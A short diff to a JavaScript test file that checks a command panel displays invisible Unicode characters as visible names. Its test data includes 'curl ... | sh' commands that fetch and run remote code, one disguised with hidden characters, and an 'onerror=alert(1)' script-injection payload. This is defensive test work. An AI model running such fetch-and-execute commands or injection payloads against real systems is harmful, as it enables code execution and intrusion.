@@ -25,7 +25,7 @@ describe("a command in the panel", () => {
     ["curl \u3164A\u034f | s\u{e0068}h", "curl [U+3164]A[U+034F] | s[U+E0068]h"],
     ["curl https://ä.example/日本 | sh 😀", "curl https://ä.example/日本 | sh 😀"],
     ["<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"],
-  ])("%j", (command, text) => {
+  ])("has visible names instead of invisible characters: %j", (command, text) => {
     expect(shown(command)).toBe(text);
   });
 });
